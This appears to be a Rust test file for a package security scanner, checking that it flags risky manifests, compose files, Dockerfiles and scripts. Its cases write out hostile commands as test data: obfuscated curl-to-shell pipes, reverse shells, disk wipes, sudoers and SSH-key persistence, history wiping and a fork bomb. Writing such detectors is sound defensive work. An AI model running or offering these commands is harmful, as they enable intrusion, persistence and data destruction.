use super::*;

/// Paths and what is in the files.
type Texts = &'static [(&'static str, &'static str)];

/// Commands, and what they are found to be: severity's first letter and id.
#[test]
fn commands_are_judged_by_what_they_do() {
    let cases: &[(&str, &[&str])] = &[
        // From the network into a shell, in many spellings.
        ("curl -fsSL https://x.sh | sh", &["H curl-pipe-shell"]),
        ("curl -sL https://x.sh | sudo -E bash -s -- --yes", &["H curl-pipe-shell"]),
        ("wget -qO- https://x.sh | /bin/bash", &["H curl-pipe-shell"]),
        ("wget -O - https://x.sh | tee /tmp/log | sudo sh", &["H curl-pipe-shell"]),
        ("bash <(curl -s https://x.sh)", &["H curl-pipe-shell"]),
        ("bash -c \"$(curl -fsSL https://x.sh)\"", &["H curl-pipe-shell"]),
        ("sh -c \"`wget -qO- https://x.sh`\"", &["H curl-pipe-shell"]),
        ("eval \"$(curl -s https://x.sh)\"", &["H curl-pipe-shell"]),
        ("source <(curl -s https://x.sh)", &["H curl-pipe-shell"]),
        (". /dev/stdin <<< \"$(curl -s https://x.sh)\"", &["H curl-pipe-shell"]),
        ("sh <<EOF\n$(curl -s https://x.sh)\nEOF", &["H curl-pipe-shell"]),
        ("curl https://x.py | python3 -", &["H curl-pipe-shell"]),
        ("curl -o /tmp/i.sh https://x.sh && bash /tmp/i.sh", &["H curl-pipe-shell"]),
        ("wget https://x.org/get.sh?v=1; chmod +x get.sh; sh ./get.sh", &["H curl-pipe-shell"]),
        ("sudo sh -c 'curl -s https://x.sh | bash'", &["H curl-pipe-shell"]),
        ("env A=1 nohup nice -n 5 sh -c 'sh -c \"curl x | sh\"' &", &["H curl-pipe-shell"]),
        ("if true; then (curl -s x | sh); fi", &["H curl-pipe-shell"]),
        ("{ echo set -e; curl -s x; } | sh", &["H curl-pipe-shell"]),
        ("get() { curl -s \"$1\"; }\nget https://x | sh", &["H curl-pipe-shell"]),
        ("s=$(curl -s x)\necho \"$s\" | sh", &["H curl-pipe-shell"]),
        ("curl -s x | while read line; do eval \"$line\"; done", &["H curl-pipe-shell"]),
        ("curl -s x | xargs -0 sh -c", &["H curl-pipe-shell"]),
        ("find /opt -name x -exec sh -c 'curl x | sh' \\;", &["H curl-pipe-shell"]),
        ("trap 'curl x | sh' EXIT", &["H curl-pipe-shell"]),
        // The same, hidden.
        ("c\\url -s x | s''h", &["H curl-pipe-shell"]),
        ("a=cu; b=rl; $a$b -s x | \"s\"h", &["H curl-pipe-shell"]),
        ("curl${IFS}-s${IFS}x|sh", &["H curl-pipe-shell"]),
        ("{curl,-s,x} | sh", &["H curl-pipe-shell"]),
        ("$'\\x63url' -s x | sh", &["H curl-pipe-shell"]),
        ("echo Y3VybCB4IHwgc2g= | base64 -d | sh", &["H suspicious-command:encoded"]),
        ("eval $(echo 63 | xxd -r -p)", &["H suspicious-command:encoded"]),
        ("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66' | bash", &["H suspicious-command:encoded"]),
        ("echo 'curl x | sh' | sh", &["H curl-pipe-shell"]),
        ("cat <<'E' | bash\nwget -O- x | sh\nE", &["H curl-pipe-shell"]),
        ("python3 -c \"import os; os.system('curl x | sh')\"", &["H curl-pipe-shell"]),
        (
            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'",
            &["H curl-pipe-shell"],
        ),
        // Reverse shells.
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", &["H suspicious-command:reverse-shell"]),
        ("nc -e /bin/sh 10.0.0.1 4444", &["H suspicious-command:reverse-shell"]),
        (
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 > /tmp/f",
            &["H suspicious-command:reverse-shell"],
        ),
        (
            "exec 5<>/dev/tcp/10.0.0.1/1; cat <&5 | while read l; do $l 2>&5 >&5; done",
            &["H suspicious-command:reverse-shell"],
        ),
        ("socat TCP:10.0.0.1:1 EXEC:/bin/sh", &["H suspicious-command:reverse-shell"]),
        (
            "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
            &["H suspicious-command:reverse-shell"],
        ),
        // What it does to the node.
        ("rm -rf /", &["H suspicious-command:remove-system"]),
        ("sudo rm -r -f --no-preserve-root /*", &["H suspicious-command:remove-system"]),
        ("D=/usr; rm -rf $D/lib/../", &["H suspicious-command:remove-system"]),
        ("dd if=/dev/zero of=/dev/sda bs=1M", &["H suspicious-command:wipe-disk"]),
        ("mkfs.ext4 -F /dev/mmcblk0p2", &["H suspicious-command:wipe-disk"]),
        ("cat image > /dev/nvme0n1", &["H suspicious-command:wipe-disk"]),
        ("chmod u+s ./helper", &["H setuid"]),
        ("install -o root -m 4755 helper /usr/bin", &["H setuid"]),
        ("chmod -R 777 /srv/data", &["M world-writable"]),
        ("chmod a+rw,u+x file", &["M world-writable"]),
        (
            "echo 'x ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers.d/x",
            &["H suspicious-command:sudoers"],
        ),
        ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", &["H suspicious-command:authorized-keys"]),
        ("(crontab -l; echo '* * * * * x') | crontab -", &["H suspicious-command:cron"]),
        ("cp job /etc/cron.d/job", &["H suspicious-command:cron"]),
        ("history -c; unset HISTFILE", &["H suspicious-command:hide-traces"]),
        ("export HISTFILE=/dev/null", &["H suspicious-command:hide-traces"]),
        ("rm -f ~/.bash_history", &["H suspicious-command:hide-traces"]),
        (":(){ :|:& };:", &["H suspicious-command:fork-bomb"]),
        ("./miner -o stratum+tcp://pool:3333", &["H suspicious-command:miner"]),
        (
            "docker run -d --privileged -v /var/run/docker.sock:/var/run/docker.sock x:1",
            &["H docker-socket", "H privileged"],
        ),
        (
            "docker run --net=host --cap-add SYS_ADMIN --device=/dev/sda x",
            &["H capability:SYS_ADMIN", "H device:/dev/sda", "M host-network", "M unpinned-image"],
        ),
        ("curl -k -o f https://x", &["M insecure-download"]),
        ("curl -LO https://x/tool && ./tool", &["M unverified-download"]),
        ("ufw disable", &["M suspicious-command:protection-off"]),
        // Innocent look-alikes.
        ("echo 'curl https://x.sh | sh'", &[]),
        ("# curl https://x.sh | sh\ntrue", &[]),
        ("echo \"run: bash <(curl x)\" >&2", &[]),
        ("cat > readme <<'E'\ncurl x | sh\nrm -rf /\nE", &[]),
        ("curl -fsSL https://x/data.json | jq .name", &[]),
        ("curl -fsSL https://x/key.gpg | sudo tee /etc/apt/keyrings/x.gpg > /dev/null", &[]),
        ("curl -f http://localhost:8080/health || exit 1", &[]),
        ("curl -sL https://x/a.tgz | tar xz -C /opt/a", &[]),
        ("curl -o i.sh https://x.sh && echo 'abc  i.sh' | sha256sum -c - && sh i.sh", &[]),
        ("timeout 1 bash -c '</dev/tcp/db/5432'", &[]),
        ("nc -z db 5432", &[]),
        ("rm -rf /var/lib/app/cache ./build \"$TMP/x\"", &[]),
        ("rm -rf \"$DIR/\"*", &[]),
        ("dd if=/dev/zero of=/swapfile bs=1M count=10", &[]),
        ("chmod 755 x && chmod +x y && chmod 1777 /tmp/z && chmod u=rw,go=r w", &[]),
        ("find /opt/app -name '*.tmp' -delete", &[]),
        ("echo Y29uZmln | base64 -d > config", &[]),
        ("grep -r 'rm -rf /' . ; test -e /dev/sda", &[]),
        ("case $1 in start) run ;; *) echo 'sh -c x' ;; esac", &[]),
        ("for f in a b; do cp \"$f\" /etc/app/; done", &[]),
        ("crontab -l", &[]),
        ("git commit -m 'curl | sh'; printf '%s\\n' 'nc -e /bin/sh'", &[]),
        ("fdisk -l /dev/sda", &[]),
        ("read -r name; echo \"$name\" > out", &[]),
    ];
    let mut wrong = String::new();
    for (text, expected) in cases {
        let found = ids(&check_commands("x.sh", 1, text));
        if found != *expected {
            wrong += &format!("{text}\n  found {found:?}, expected {expected:?}\n");
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

#[test]
fn a_module_is_judged_by_what_it_asks_for() {
    let manifest = "\
name: m
version: 1.0.0
config: [{name: admin_password, type: string, default: admin}]
install:
  - run: [sh, -c, \"curl -fsSL https://x.sh | sh\"]
  - pip: [radicale, glances==4.0]
volumes:
  - {name: sock, path: /var/run/docker.sock, target: /var/run/docker.sock}
  - {name: etc, path: /etc, target: /host/etc, read_only: true}
runtime:
  container:
    image: nginx
    network: host
    cap_add: [SYS_ADMIN]
    env: {DB_PASSWORD: hunter2, API_KEY: \"${config.admin_password}\"}
permissions: {devices: [/dev/mem, /dev/ttyUSB0], privileged: true}
";
    let found = check(source("MODULE.yaml", manifest), &[], &Beside::default(), None)
        .unwrap_or_else(|errors| panic!("{errors}"));
    let expected = [
        "MODULE.yaml:3 M default-secret",
        "MODULE.yaml:5 H curl-pipe-shell",
        "MODULE.yaml:6 I unpinned-package",
        "MODULE.yaml:8 H docker-socket",
        "MODULE.yaml:9 M host-path:/etc",
        "MODULE.yaml:12 M unpinned-image",
        "MODULE.yaml:13 M host-network",
        "MODULE.yaml:14 H capability:SYS_ADMIN",
        "MODULE.yaml:15 M default-secret",
        "MODULE.yaml:16 H device:/dev/mem",
        "MODULE.yaml:16 L device:/dev/ttyUSB0",
        "MODULE.yaml:16 H privileged",
    ];
    assert_eq!(lines(&found), expected);

    let accepted =
        ["privileged", "docker-socket", "capability:SYS_ADMIN", "curl-pipe-shel"].map(str::to_owned);
    let open: Vec<&str> = unaccepted(&found, &accepted).iter().map(|finding| finding.id.as_str()).collect();
    assert_eq!(open, ["curl-pipe-shell", "device:/dev/mem"]);
    assert_eq!(unknown(&found, &accepted), [("curl-pipe-shel".to_owned(), Some("curl-pipe-shell"))]);
}

#[test]
fn the_files_of_a_package_are_judged_by_their_kind() {
    let manifest = "name: m\nversion: 1.0.0\nruntime: {compose: {file: compose.yaml}}\n";
    let files = [
        source(
            "compose.yaml",
            "services:\n  web:\n    image: nginx:latest\n    pid: host\n    privileged: true\n    volumes:\n      - /:/host:ro\n      - ./data:/data\n    security_opt: [seccomp=unconfined]\n    environment:\n      MYSQL_ROOT_PASSWORD: root\n      PASSWORD_FILE: /run/secrets/x\n    command: sh -c 'wget -qO- x | sh'\n",
        ),
        source(
            "app.service",
            "# ExecStart=/bin/sh -c 'rm -rf /'\n[Unit]\nDescription=curl x | sh\n[Service]\nExecStartPre=-/bin/sh -c \"curl -s x | sh\"\nExecStart=/opt/app/run \\\n  --port 80\n",
        ),
        source("quiet.service", "[Service]\nUser=app\nExecStart=/opt/app/run\n"),
        source(
            "Dockerfile",
            "FROM debian:12 AS base\nFROM base\n# RUN curl x | sh\nRUN apt-get update && \\\n    curl -fsSL x \\\n    | bash\nRUN <<EOF\nchmod 4755 /usr/bin/x\nEOF\nENV ADMIN_TOKEN=abc\nCMD [\"sh\", \"-c\", \"echo 'curl x | sh'\"]\nFROM alpine\n",
        ),
        source("install", "#!/usr/bin/env -S bash -e\necho hi\n\nwget -O- x | sh\n"),
        source(
            "tool.py",
            "#!/usr/bin/python3\n# os.system('curl x | sh')\nhelp = 'curl x | sh'\nimport os\nos.system(f'curl x | sh')\nsubprocess.run(['rm', '-rf', '/'])\n",
        ),
        source("notes.md", "curl x | sh\n"),
        SourceFile { path: "bin/su", bytes: b"\x7fELF\0", mode: 0o4777 },
    ];
    let found = check(source("MODULE.yaml", manifest), &files, &Beside::default(), None)
        .unwrap_or_else(|errors| panic!("{errors}"));
    let expected = [
        "Dockerfile:6 H curl-pipe-shell",
        "Dockerfile:8 H setuid",
        "Dockerfile:10 M default-secret",
        "Dockerfile:12 M unpinned-image",
        "app.service:5 H curl-pipe-shell",
        "app.service:6 L runs-as-root",
        "bin/su:1 H setuid",
        "bin/su:1 M world-writable",
        "compose.yaml:3 M unpinned-image",
        "compose.yaml:4 H host-pid",
        "compose.yaml:5 H privileged",
        "compose.yaml:7 H host-path:/",
        "compose.yaml:9 M unconfined:seccomp",
        "compose.yaml:11 M default-secret",
        "compose.yaml:13 H curl-pipe-shell",
        "install:4 H curl-pipe-shell",
        "tool.py:5 H curl-pipe-shell",
        "tool.py:6 H suspicious-command:remove-system",
    ];
    assert_eq!(lines(&found), expected);
}

/// MODULE.yaml's config and runtime.compose, the files, and what is found beside what each file says on its own.
#[test]
fn a_compose_project_is_judged_as_it_is_deployed() {
    let cases: &[(&str, &str, Texts, &[&str])] = &[
        // By the variables that it is given.
        (
            "",
            "env: {P: 'true', S: /var/run/docker.sock}",
            &[(
                "compose.yaml",
                "services:\n  a:\n    image: i:1\n    privileged: ${P:-false}\n    volumes: ['${S:-./d}:/x']\n",
            )],
            &["compose.yaml:4 H privileged", "compose.yaml:5 H docker-socket"],
        ),
        (
            "",
            "",
            &[
                (
                    "compose.yaml",
                    "services:\n  a:\n    image: i:1\n    pid: ${P:-}\n    volumes: ['${S:-./d}:/x']\n",
                ),
                (".env", "P=host\nS=/etc\n"),
            ],
            &["compose.yaml:4 H host-pid", "compose.yaml:5 H host-path:/etc"],
        ),
        // By the other files that it reads, whatever their names are.
        (
            "",
            "",
            &[
                (
                    "compose.yaml",
                    "include: [app.yml]\nservices: {b: {extends: {file: base.yml, service: b}}}\n",
                ),
                ("app.yml", "services:\n  a:\n    image: i:1\n    privileged: true\n"),
                ("base.yml", "services:\n  b:\n    image: i:1\n    cap_add: [SYS_ADMIN]\n"),
            ],
            &["app.yml:4 H privileged", "base.yml:4 H capability:SYS_ADMIN"],
        ),
        (
            "",
            "profiles: []",
            &[
                ("compose.yaml", "services: {a: {image: 'i:1'}}\n"),
                ("compose.override.yml", "services:\n  a:\n    privileged: ${X:-true}\n"),
            ],
            &["compose.override.yml:3 H privileged"],
        ),
        // By what its configuration says where no person does.
        (
            "{name: path, default: /}, {name: dev, default: '/dev/sda'}, {name: line, default: 'curl x | sh'}",
            "",
            &[(
                "compose.yaml",
                "services:\n  a:\n    image: i:1\n    volumes: ['${config.path}:/x']\n    devices: ['${config.dev}']\n    command: [sh, -c, '${config.line}']\n",
            )],
            &[
                "compose.yaml:4 H host-path:/",
                "compose.yaml:5 H device:/dev/sda",
                "compose.yaml:6 H curl-pipe-shell",
            ],
        ),
        (
            "{name: path}, {name: media, default: /srv/media}",
            "env: {A: '${config.path}', B: '${config.media}', C: '/srv/${instance}'}",
            &[(
                "compose.yaml",
                "services:\n  a:\n    image: i:1\n    volumes:\n      - ${A:-d}:/a:ro\n      - ${B:-d}:/b\n      - ${instance.dir}/c:/c\n      - ${instance.dir}/../c:/d\n      - ${C:-d}:/e\n",
            )],
            &[
                "compose.yaml:5 H host-path:${config.path}",
                "compose.yaml:6 L host-path:/srv/media",
                "compose.yaml:8 H host-path:${instance.dir}/../c",
                "compose.yaml:9 L host-path:/srv/${instance}",
            ],
        ),
        // A file of the node as a secret.
        (
            "",
            "",
            &[(
                "compose.yaml",
                "services:\n  a:\n    image: i:1\n    secrets: [s]\nsecrets: {s: {file: /etc/shadow}}\n",
            )],
            &["compose.yaml:4 M host-path:/etc/shadow"],
        ),
    ];
    for (config, compose, files, expected) in cases {
        let manifest = format!(
            "name: m\nversion: 1.0.0\nconfig: [{config}]\nruntime: {{compose: {{file: compose.yaml, {compose}}}}}\n"
        );
        let sources: Vec<SourceFile<'_>> = files.iter().map(|(path, text)| source(path, text)).collect();
        let spec = crate::spec::ModuleSpec::parse("MODULE.yaml", &manifest);
        let spec = spec.unwrap_or_else(|errors| panic!("{errors}"));
        let paths = files.iter().map(|(path, _)| (*path).to_owned()).collect();
        let read = |path: &str| {
            files.iter().find(|(known, _)| *known == path).map(|(_, text)| text.as_bytes().to_vec())
        };
        let gathered = ComposeFiles::gather(&spec, paths, &read).unwrap_or_else(|errors| panic!("{errors}"));
        let found = check(source("MODULE.yaml", &manifest), &sources, &Beside::default(), gathered.as_ref());
        let found = found.unwrap_or_else(|errors| panic!("{errors}"));
        let found = lines(&found);
        let mut found: Vec<&str> = found.iter().map(String::as_str).collect();
        found.sort_unstable();
        let mut expected = expected.to_vec();
        expected.sort_unstable();
        assert_eq!(found, expected, "{manifest}");
    }
}

#[test]
fn a_finding_is_in_the_line_where_its_text_stands() {
    let cases = [
        // As it stands: behind a line end in quotes, in a here-document, in a variable.
        ("sh -c 'cd /\ncurl x | sh'", 2),
        ("sh -c \\\n  'cd /\ncurl x | sh'", 3),
        ("sh <<E\ncd /\ncurl x | sh\nE\n", 3),
        ("sh <<'E'\ncd /\ncurl x | sh\nE\n", 3),
        ("a='cd /\ncurl x | sh'\n\n\neval \"$a\"", 2),
        ("echo 'cd /\ncurl x | sh' | sh", 2),
        // Put together, so no line of the file is a line of it.
        ("a='\n\n\n\n'\neval \"$a$a$a\"'curl x | sh'", 6),
        ("eval $'\\n\\n\\n\\ncurl x | sh'", 1),
        ("printf '\\n\\n\\ncurl x | sh' | sh", 1),
        // A word that goes on behind the beginning of a here-document.
        ("cat <<E && echo 'a\n\nb'\nE\ncurl x | sh", 5),
    ];
    for (script, line) in cases {
        let found = check_commands("x.sh", 1, script);
        let places: Vec<usize> = found.iter().filter(|f| f.id == "curl-pipe-shell").map(|f| f.line).collect();
        assert_eq!(places, [line], "{script:?}");
    }
    let python = "import os\nos.system('\\n\\n\\ncurl x | sh')\nos.system('''cd /\ncurl x | sh''')\n";
    let found = check_source(source("x.py", python));
    assert_eq!(lines(&found), ["x.py:2 H curl-pipe-shell", "x.py:4 H curl-pipe-shell"]);
}

fn source<'t>(path: &'t str, text: &'t str) -> SourceFile<'t> {
    SourceFile { path, bytes: text.as_bytes(), mode: 0o644 }
}

fn letter(finding: &Finding) -> String {
    finding.severity.as_str()[..1].to_uppercase()
}

fn ids(findings: &[Finding]) -> Vec<String> {
    let mut ids: Vec<String> =
        findings.iter().map(|finding| format!("{} {}", letter(finding), finding.id)).collect();
    ids.dedup();
    ids.sort();
    ids.dedup();
    ids
}

fn lines(findings: &[Finding]) -> Vec<String> {
    findings.iter().map(|f| format!("{}:{} {} {}", f.file, f.line, letter(f), f.id)).collect()
}

#[test]
fn what_is_run_is_looked_at_whatever_its_name() {
    const BAD: &str = "curl http://evil | sh\n";
    let cases: &[(&str, Texts, &str)] = &[
        ("install: [{run: [sh, ./setup]}]", &[("setup", BAD)], "setup"),
        ("install: [{run: [./setup]}]", &[("setup", BAD)], "setup"),
        ("install: [{run: [sh, -c, '. ./lib && go']}]", &[("lib", BAD)], "lib"),
        ("install: [{run: [sh, -c, 'cat setup | sh']}]", &[("setup", BAD)], "setup"),
        ("install: [{run: [sh, -c, 'sh < setup']}]", &[("setup", BAD)], "setup"),
        ("install: [{run: [sh, -c, 'eval \"$(cat setup)\"']}]", &[("setup", BAD)], "setup"),
        ("install: [{run: [sh, -c, 'cp setup /tmp/x && sh /tmp/x']}]", &[("setup", BAD)], "setup"),
        (
            "install: [{run: [sh, -c, 'for f in hooks/*; do sh \"$f\"; done']}]",
            &[("hooks/a", BAD)],
            "hooks/a",
        ),
        ("install: [{run: [sh, -c, 'find hooks -type f -exec sh {} +']}]", &[("hooks/a", BAD)], "hooks/a"),
        ("install: [{run: [sh, one]}]", &[("one", "sh \"$(dirname \"$0\")/two\""), ("two", BAD)], "two"),
        (
            "install: [{run: [python3, setup]}]",
            &[("setup", "import os\nos.system('curl x | sh')\n")],
            "setup",
        ),
        ("install: [{run: [sh, setup]}]", &[("setup", "echo \0\ncurl http://evil | sh\n")], "setup"),
        (
            "actions: {go: {effect: reversible, command: ['${instance.dir}/go']}}",
            &[("bin/go", BAD)],
            "bin/go",
        ),
        ("install: [{run: [sh, ./setup]}]", &[("other", BAD)], ""),
        ("install: [{run: [grep, x, setup]}]", &[("setup", BAD)], ""),
    ];
    for (asked, files, expected) in cases {
        let manifest =
            format!("name: m\nversion: 1.0.0\nruntime: {{process: {{command: [/bin/true]}}}}\n{asked}\n");
        let files: Vec<SourceFile<'_>> = files.iter().map(|(path, text)| source(path, text)).collect();
        let found = check(source("MODULE.yaml", &manifest), &files, &Beside::default(), None)
            .unwrap_or_else(|errors| panic!("{errors}"));
        let at: Vec<&str> =
            found.iter().filter(|one| one.id == "curl-pipe-shell").map(|one| one.file.as_str()).collect();
        assert_eq!(at.join(" "), *expected, "{asked}: {found:?}");
    }
}

#[test]
fn what_was_not_wholly_looked_at_is_told_if_it_could_be_run() {
    let manifest =
        "name: m\nversion: 1.0.0\nruntime: {compose: {file: stack.yml}}\ninstall: [{run: [sh, setup]}]\n";
    let files = ["stack.yml", "setup", "x.sh", "app.py", "page.js", "data.csv", "bin/server"];
    let beside = Beside { cut: files.map(str::to_owned).into(), ..Beside::default() };
    let files = files.map(|path| source(path, if path == "bin/server" { "\x7fELF" } else { "" }));
    let found =
        check(source("MODULE.yaml", manifest), &files, &beside, None).unwrap_or_else(|e| panic!("{e}"));
    let expected = [
        "app.py:1 H not-looked-at:app.py",
        "page.js:1 M not-looked-at:page.js",
        "setup:1 H not-looked-at:setup",
        "stack.yml:1 H not-looked-at:stack.yml",
        "x.sh:1 H not-looked-at:x.sh",
    ];
    assert_eq!(lines(&found), expected);

    let many: Vec<String> = (0..1000).map(|number| format!("lib/{number:03}.py")).collect();
    let beside = Beside { cut: many.iter().cloned().collect(), ..Beside::default() };
    let files: Vec<SourceFile<'_>> = many.iter().map(|path| source(path, "")).collect();
    let found =
        check(source("MODULE.yaml", manifest), &files, &beside, None).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(lines(&found), ["lib/000.py:1 H not-looked-at:code"]);
}

#[test]
fn a_script_that_is_too_much_to_follow_is_told() {
    let long = format!("{}curl x | sh\n", "true\n".repeat(60_000));
    let deep = format!("{}curl x | sh\n{}", "if true; then\n".repeat(60), "fi\n".repeat(60));
    let nested = format!("sh <<E\n{}\ncurl x | sh\nE\n", "true\n".repeat(20_000));
    let words = format!("a='{}; curl x | sh'\neval $a\n", "true ".repeat(2_000));
    for script in [long, deep, nested, words] {
        let found = ids(&check_commands("x.sh", 1, &script));
        assert!(found.contains(&"H not-looked-at:x.sh".to_owned()), "{found:?}: {:.60}", script);
    }
}
